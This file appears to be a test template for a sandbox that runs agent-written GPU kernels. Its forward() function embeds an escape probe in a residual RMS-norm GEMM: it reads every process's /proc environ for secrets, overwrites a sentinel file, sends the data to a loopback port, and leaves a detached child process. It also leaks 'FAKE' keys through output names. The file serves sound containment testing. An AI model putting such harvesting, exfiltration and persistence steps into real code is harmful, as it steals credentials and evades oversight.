"""Escape template (SENTINEL and PORT are filled in by the tests): reads every environ in /proc, writes files,
calls a loopback listener, leaves a detached child, and returns any FAKE key it found as an output name.
Refused by the static check; run past it, the sandbox must contain all of it."""

import torch
from coda_agent.primitives import ColVecReduce, RowVecLoad, epilogue, gemm, rstd_from_sqsum


@epilogue(outputs=("h",), operands={"gamma": RowVecLoad()}, reduces={"sqsum": ColVecReduce(scaled=True)})
def residual_rms(acc, c, gamma):
    h = acc + c
    return {"D": h * gamma, "h": h, "sqsum": (h, h)}


def forward(x, w, residual, gamma, eps):
    os, found = torch.os, []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid())]:
        try:
            found.append(open(f"/proc/{pid}/environ", errors="replace").read())
        except OSError:
            pass
    for path in (SENTINEL, "/tmp/coda-escape-probe"):
        try:
            open(path, "w").write("tampered")
        except OSError:
            pass
    try:
        torch.sys.modules["socket"].create_connection(("127.0.0.1", PORT), timeout=1).sendall("".join(found).encode())
    except OSError:
        pass
    torch.sys.modules["subprocess"].Popen(["sleep", "300"], start_new_session=True)
    out = gemm(residual_rms, x, w.t(), C=residual, gamma=gamma)
    secrets = [s for s in "".join(found).split("\0") if "FAKE" in s]
    return {"h": out["h"], "normed": out["D"], "rstd": rstd_from_sqsum(out["sqsum"], w.shape[0], eps), **{s: out["h"] for s in secrets}}
